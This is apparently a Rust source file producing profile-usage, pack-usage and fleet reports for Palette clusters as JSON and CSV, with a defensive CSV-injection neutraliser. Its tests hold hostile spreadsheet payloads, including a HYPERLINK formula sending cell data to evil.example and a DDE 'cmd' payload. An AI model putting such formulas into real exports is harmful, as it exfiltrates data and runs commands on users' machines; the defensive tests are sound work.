//! Usage reports Palette cannot answer cheaply; they need the mirror. Each report comes as
//! typed data (for the fleet page), as JSON (HTTP, MCP) and as CSV (one row per version).

use serde::Serialize;

use super::packs::{self, PackMatch};
use super::{Answer, Ctx};
use crate::auth::scope::Kind;
use crate::domain::{CloudType, ProfileType, Uid};
use crate::error::AppResult;
use crate::store::reports::{self, FleetCounts, PackQuery, PackUsage, ProfileUsage, UsageQuery};
use crate::sync::Freshness;

/// Narrowing of the profile-usage report.
#[derive(Debug, Default, Clone)]
pub struct ProfileUsageFilter {
    /// Case-insensitive substring of the profile name.
    pub name: Option<String>,
    /// Only profiles no cluster uses.
    pub unused_only: bool,
    /// Profiles of this project and the tenant, counting clusters of this project only.
    pub project_uid: Option<Uid>,
    pub profile_type: Option<ProfileType>,
    pub cloud_type: Option<CloudType>,
    /// List the clusters under each version.
    pub include_clusters: bool,
}

#[derive(Debug, Serialize)]
pub struct ProfileUsageReport {
    pub environment: String,
    /// Every cluster's profiles and packs are counted (see [`Completion`]).
    pub complete: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub progress: Option<Completion>,
    /// Profiles no cluster uses.
    pub unused: usize,
    pub profiles: Vec<ProfileUsage>,
}

/// What an incomplete report is still waiting for.
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Completion {
    /// Listed clusters whose profiles and packs are still being fetched (their listing left
    /// them out); they are not counted yet.
    pub clusters_without_index: u64,
    /// The sync run filling them in, when one runs.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sync: Option<crate::sync::progress::ProgressView>,
}

/// Whether an index-dependent answer of `m` is complete, and else how far it is.
pub fn completion(ctx: &Ctx, fresh: &Freshness) -> (bool, Option<Completion>) {
    if !fresh.partial() {
        return (true, None);
    }
    let run = ctx.state.sync.env_state(ctx.env.name()).running;
    let c = Completion {
        clusters_without_index: fresh.without_index,
        sync: run.and_then(|r| r.progress.view()),
    };
    (false, Some(c))
}

/// When the mirror of `m` last synced (µs): with the generation, what the report counts
/// are kept for.
fn synced(m: &super::view::Mirror<'_>) -> Option<i64> {
    m.freshness.synced_at.map(|t| t.timestamp_micros())
}

/// Every profile with the clusters on each of its versions, most used first.
pub async fn profile_usage_report(
    ctx: &Ctx,
    filter: &ProfileUsageFilter,
) -> AppResult<(Freshness, ProfileUsageReport)> {
    let m = ctx.mirror().await?;
    let (pf, cf) = (m.filter(Kind::Profile), m.filter(Kind::Cluster));
    let q = UsageQuery {
        project_uid: filter.project_uid.as_ref().map(|u| u.as_str().to_string()),
        profile_type: filter.profile_type.map(|t| t.as_str().to_string()),
        cloud_type: filter.cloud_type.as_ref().map(|c| c.as_str().to_string()),
        clusters: filter.include_clusters,
    };
    let mut profiles = reports::profile_usage(m.db(), m.env(), synced(&m), &q, &pf, &cf).await?;
    // Narrowed after the query: Unicode-aware, and the report is per profile, already small.
    if let Some(needle) = filter.name.as_deref().map(str::to_lowercase) {
        profiles.retain(|p| p.name.to_lowercase().contains(&needle));
    }
    if filter.unused_only {
        profiles.retain(|p| p.unused);
    }
    let (complete, progress) = completion(m.ctx, &m.freshness);
    let report = ProfileUsageReport {
        environment: m.env().to_string(),
        complete,
        progress,
        unused: profiles.iter().filter(|p| p.unused).count(),
        profiles,
    };
    Ok((m.freshness, report))
}

pub async fn profile_usage(ctx: &Ctx, filter: &ProfileUsageFilter) -> AppResult<Answer> {
    let (fresh, report) = profile_usage_report(ctx, filter).await?;
    Ok(Answer::mirror(fresh, super::to_text(&report)?))
}

/// The CSV columns of `profile-usage?format=csv`, one row per profile version.
pub const PROFILE_USAGE_COLUMNS: &[&str] = &[
    "environment",
    "profile_uid",
    "profile_name",
    "scope",
    "project_uid",
    "project_name",
    "profile_type",
    "cloud_type",
    "latest_version",
    "version_uid",
    "version",
    "latest",
    "clusters",
    "by_state",
    "profile_clusters",
    "upgrade_backlog",
    "unused",
];

pub async fn profile_usage_csv(ctx: &Ctx, filter: &ProfileUsageFilter) -> AppResult<Answer> {
    let (fresh, report) = profile_usage_report(ctx, filter).await?;
    Ok(Answer::mirror(fresh, profile_usage_table(&report)))
}

/// `Running=3;Pending=1`: a map in one CSV cell.
fn pairs<'a, K: std::fmt::Display + 'a>(m: impl IntoIterator<Item = (K, &'a i64)>) -> String {
    m.into_iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect::<Vec<_>>()
        .join(";")
}

fn profile_usage_table(r: &ProfileUsageReport) -> String {
    let mut out = csv_row(PROFILE_USAGE_COLUMNS.iter().copied());
    for p in &r.profiles {
        for v in &p.versions {
            let counts = [
                v.latest.to_string(),
                v.clusters.to_string(),
                pairs(&v.by_state),
                p.clusters.to_string(),
                p.upgrade_backlog.to_string(),
                p.unused.to_string(),
            ];
            let cells: [&str; 17] = [
                &p.environment,
                &p.uid,
                &p.name,
                &p.scope,
                p.project_uid.as_deref().unwrap_or_default(),
                p.project_name.as_deref().unwrap_or_default(),
                &p.profile_type,
                &p.cloud_type,
                &p.latest_version,
                &v.uid,
                &v.version,
                &counts[0],
                &counts[1],
                &counts[2],
                &counts[3],
                &counts[4],
                &counts[5],
            ];
            out.push_str(&csv_row(cells));
        }
    }
    out
}

/// One RFC 4180 record with its CRLF: a field with a comma, quote or line break is quoted,
/// quotes doubled; every field is [`neutralised`] first.
pub fn csv_row<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
    let mut line = String::new();
    for (i, c) in cells.into_iter().enumerate() {
        if i > 0 {
            line.push(',');
        }
        let c = neutralised(c);
        if c.contains([',', '"', '\r', '\n']) {
            line.push('"');
            line.push_str(&c.replace('"', "\"\""));
            line.push('"');
        } else {
            line.push_str(&c);
        }
    }
    line.push_str("\r\n");
    line
}

/// A cell a spreadsheet would not run as a formula (OWASP's CSV injection advice): names come
/// from Palette, where anyone who may create a profile or cluster picks them, so a cell that
/// starts with `=`, `+`, `-`, `@`, TAB or CR gets a leading `'`. Every cell, not only names:
/// the numbers this service writes are counts, never negative, so none is changed.
pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Narrowing of the pack-usage report.
#[derive(Debug, Default, Clone)]
pub struct PackUsageFilter {
    /// A pack name: it takes its family in any case ([`packs::family`]).
    pub name: Option<String>,
    pub tag: Option<String>,
    /// A version prefix up to a dot, dash or plus (`1.29` takes `1.29.4`, not `1.290`).
    pub version: Option<String>,
}

/// One pack and how its clusters spread over its versions.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct PackSpread {
    pub name: String,
    pub clusters: i64,
    pub versions: Vec<VersionCount>,
}

#[derive(Debug, Serialize)]
pub struct VersionCount {
    pub version: String,
    pub clusters: i64,
}

#[derive(Debug, Serialize)]
pub struct PackUsageReport {
    pub environment: String,
    /// Every cluster's packs are counted (see [`Completion`]).
    pub complete: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub progress: Option<Completion>,
    /// One entry per pack and version, most used first; with `name`, the clusters too.
    pub packs: Vec<PackUsage>,
    /// Per pack: clusters over all its versions and per version (newest tag first).
    pub spread: Vec<PackSpread>,
    /// With `name` or `version`: what they matched, in words.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub search: Option<PackMatch>,
}

/// Clusters per pack and version; `name` (and `version` or `tag`) narrow it and list them.
/// The one pack search of the HTTP report, the MCP tools and the fleet page.
pub async fn pack_usage_report(
    ctx: &Ctx,
    filter: &PackUsageFilter,
) -> AppResult<(Freshness, PackUsageReport)> {
    let m = ctx.mirror().await?;
    let f = m.filter(Kind::Cluster);
    let asked = packs::Asked {
        name: filter
            .name
            .as_deref()
            .map(str::trim)
            .filter(|n| !n.is_empty()),
        version: filter.version.as_deref().filter(|v| !v.is_empty()),
    };
    let known = match asked.name {
        Some(_) => reports::pack_names(m.db(), m.env(), synced(&m), &f).await?,
        None => Vec::new(),
    };
    let matched = asked.name.map(|n| packs::family(n, &known));
    let q = PackQuery {
        names: matched.clone(),
        tag: filter.tag.clone(),
        version: asked.version.map(str::to_string),
    };
    let rows = reports::pack_usage(m.db(), m.env(), synced(&m), &q, &f).await?;
    let search = if asked.name.is_none() && asked.version.is_none() {
        None
    } else {
        let matched = matched.as_deref().unwrap_or_default();
        // Only when the family matched and the version did not: which versions would have.
        let in_use = if rows.is_empty() && !matched.is_empty() && q.version.is_some() {
            versions_in_use(&m, &q, &f).await?
        } else {
            Vec::new()
        };
        let found = packs::Found {
            known: &known,
            matched,
            clusters: distinct_clusters(&rows),
            versions_in_use: in_use,
        };
        Some(packs::explain(&asked, found))
    };
    let (complete, progress) = completion(m.ctx, &m.freshness);
    let report = PackUsageReport {
        environment: m.env().to_string(),
        complete,
        progress,
        spread: spread_of(&rows),
        packs: rows,
        search,
    };
    Ok((m.freshness, report))
}

/// The versions in use of the packs `q` names, whatever its version, oldest first.
async fn versions_in_use(
    m: &super::view::Mirror<'_>,
    q: &PackQuery,
    f: &crate::store::visibility::Filter,
) -> AppResult<Vec<String>> {
    let any = PackQuery {
        version: None,
        ..q.clone()
    };
    let mut tags: Vec<String> = reports::pack_usage(m.db(), m.env(), synced(m), &any, f)
        .await?
        .into_iter()
        .map(|p| p.tag)
        .collect();
    tags.sort_by(|a, b| crate::domain::compare_versions(a, b));
    tags.dedup();
    Ok(tags)
}

/// Clusters on any of `rows`: listed ones once each, else the counts summed (a cluster runs
/// one version of a pack).
fn distinct_clusters(rows: &[PackUsage]) -> usize {
    let listed: std::collections::BTreeSet<&str> = rows
        .iter()
        .flat_map(|p| p.cluster_uids.iter().flatten())
        .map(String::as_str)
        .collect();
    if rows.iter().any(|p| p.cluster_uids.is_some()) {
        listed.len()
    } else {
        rows.iter().map(|p| p.clusters.max(0) as usize).sum()
    }
}

/// Counts summed per pack name (a cluster running one pack in two profiles counts twice at
/// most once per version, as in `packs`).
fn spread_of(packs: &[PackUsage]) -> Vec<PackSpread> {
    let mut by_name: std::collections::BTreeMap<&str, Vec<&PackUsage>> = Default::default();
    for p in packs {
        by_name.entry(&p.name).or_default().push(p);
    }
    let mut out: Vec<PackSpread> = by_name
        .into_iter()
        .map(|(name, mut vs)| {
            vs.sort_by(|a, b| b.tag.cmp(&a.tag));
            PackSpread {
                name: name.to_string(),
                clusters: vs.iter().map(|v| v.clusters).sum(),
                versions: vs
                    .iter()
                    .map(|v| VersionCount {
                        version: v.tag.clone(),
                        clusters: v.clusters,
                    })
                    .collect(),
            }
        })
        .collect();
    out.sort_by(|a, b| b.clusters.cmp(&a.clusters).then(a.name.cmp(&b.name)));
    out
}

pub async fn pack_usage(ctx: &Ctx, filter: &PackUsageFilter) -> AppResult<Answer> {
    let (fresh, report) = pack_usage_report(ctx, filter).await?;
    Ok(Answer::mirror(fresh, super::to_text(&report)?))
}

/// The CSV columns of `pack-usage?format=csv`, one row per pack version (and per cluster
/// when narrowed to one pack by `name`).
pub const PACK_USAGE_COLUMNS: &[&str] = &[
    "environment",
    "pack",
    "version",
    "layer",
    "clusters",
    "cluster_uid",
    "cluster_name",
    "project_uid",
    "state",
];

pub async fn pack_usage_csv(ctx: &Ctx, filter: &PackUsageFilter) -> AppResult<Answer> {
    let (fresh, r) = pack_usage_report(ctx, filter).await?;
    let mut out = csv_row(PACK_USAGE_COLUMNS.iter().copied());
    for p in &r.packs {
        let head = [
            r.environment.as_str(),
            &p.name,
            &p.tag,
            &p.layer,
            &p.clusters.to_string(),
        ]
        .map(str::to_string);
        match &p.cluster_list {
            Some(list) => {
                for c in list {
                    let tail = [
                        &c.uid,
                        &c.name,
                        c.project_uid.as_deref().unwrap_or(""),
                        &c.state,
                    ];
                    out.push_str(&csv_row(
                        head.iter()
                            .map(String::as_str)
                            .chain(tail.map(|s| s as &str)),
                    ));
                }
            }
            None => out.push_str(&csv_row(
                head.iter().map(String::as_str).chain(["", "", "", ""]),
            )),
        }
    }
    Ok(Answer::mirror(fresh, out))
}

/// One environment's fleet and how fresh its mirror is.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct EnvironmentFleet {
    pub environment: String,
    /// Whether the mirror of this environment holds data yet.
    pub ready: bool,
    pub synced_at: Option<String>,
    pub stale: bool,
    /// Every cluster's health and kubernetes version are counted (see [`Completion`]).
    pub complete: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub progress: Option<Completion>,
    /// The environment requires a Palette user token and the caller sent none: listed so the
    /// report says why, without a count, uid or name of its fleet.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub user_token_required: bool,
    /// None when [`Self::user_token_required`].
    #[serde(flatten)]
    pub counts: Option<FleetCounts>,
}

#[derive(Debug, Serialize)]
pub struct FleetReport {
    pub environments: Vec<EnvironmentFleet>,
}

/// The fleet of the context's environment, and — with `all` and no Palette user token (whose
/// scope belongs to one Palette) — of every other environment whose mirror has data. An
/// environment that requires a user token is listed without its fleet: the caller has none
/// for it (authorization refuses the context's own environment before this).
pub async fn fleet_report(ctx: &Ctx, all: bool) -> AppResult<(Freshness, FleetReport)> {
    let m = ctx.mirror().await?;
    let mut environments = vec![env_fleet(&m).await?];
    if all && ctx.user.token.is_none() {
        for env in ctx.state.envs.all() {
            if env.name() == m.env() {
                continue;
            }
            let fresh = ctx.state.sync.freshness(env.name());
            let required = env.config.requires_user_token(&ctx.state.config.auth);
            if required || fresh.synced_at.is_none() {
                environments.push(without_fleet(env.name(), &fresh, required));
                continue;
            }
            let other = Ctx {
                env: env.clone(),
                ..ctx.clone()
            };
            let om = other.mirror().await?;
            environments.push(env_fleet(&om).await?);
        }
    }
    Ok((m.freshness, FleetReport { environments }))
}

/// An environment listed without its fleet: not synced yet, or closed to this caller.
fn without_fleet(name: &str, fresh: &Freshness, token_required: bool) -> EnvironmentFleet {
    EnvironmentFleet {
        environment: name.to_string(),
        ready: fresh.synced_at.is_some() && !token_required,
        synced_at: None,
        stale: fresh.synced_at.is_none() || fresh.stale,
        complete: false,
        progress: None,
        user_token_required: token_required,
        counts: (!token_required).then(FleetCounts::default),
    }
}

async fn env_fleet(m: &super::view::Mirror<'_>) -> AppResult<EnvironmentFleet> {
    let counts = reports::fleet(m.db(), m.env(), synced(m), &m.filter(Kind::Cluster)).await?;
    let fresh = m.freshness;
    let (complete, progress) = completion(m.ctx, &fresh);
    Ok(EnvironmentFleet {
        environment: m.env().to_string(),
        ready: true,
        synced_at: fresh
            .synced_at
            .map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::Millis, true)),
        stale: fresh.stale,
        complete,
        progress,
        user_token_required: false,
        counts: Some(counts),
    })
}

pub async fn fleet(ctx: &Ctx, all: bool) -> AppResult<Answer> {
    let (fresh, report) = fleet_report(ctx, all).await?;
    Ok(Answer::mirror(fresh, super::to_text(&report)?))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_only_what_needs_it() {
        assert_eq!(csv_row(["a", "b c", ""]), "a,b c,\r\n");
        assert_eq!(
            csv_row(["x,y", "say \"hi\"", "two\nlines"]),
            "\"x,y\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n"
        );
    }

    #[test]
    fn formula_cells_are_neutralised_and_others_left_alone() {
        for hostile in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\tx",
            "\r=1",
        ] {
            assert_eq!(neutralised(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for plain in [
            "web",
            "1.29.4",
            "0",
            "12",
            "",
            "a=b",
            "Running=3;Pending=1",
            "'x",
        ] {
            assert_eq!(neutralised(plain), plain);
        }
        // Neutralised before quoting: the quote stays the first character inside the quotes.
        assert_eq!(csv_row(["=1,2", "@x", "ok"]), "\"'=1,2\",'@x,ok\r\n");
        assert_eq!(csv_row(["\r=1"]), "\"'\r=1\"\r\n");
    }

    #[test]
    fn spread_sums_versions_per_pack() {
        let p = |name: &str, tag: &str, n| PackUsage {
            name: name.into(),
            tag: tag.into(),
            version: tag.into(),
            layer: "k8s".into(),
            clusters: n,
            cluster_uids: None,
            cluster_list: None,
        };
        let s = spread_of(&[p("k", "1.29.4", 2), p("c", "1.0", 1), p("k", "1.30.1", 3)]);
        assert_eq!(s[0].name, "k");
        assert_eq!(s[0].clusters, 5);
        assert_eq!(s[0].versions[0].version, "1.30.1");
        assert_eq!(s[1].clusters, 1);
    }
}
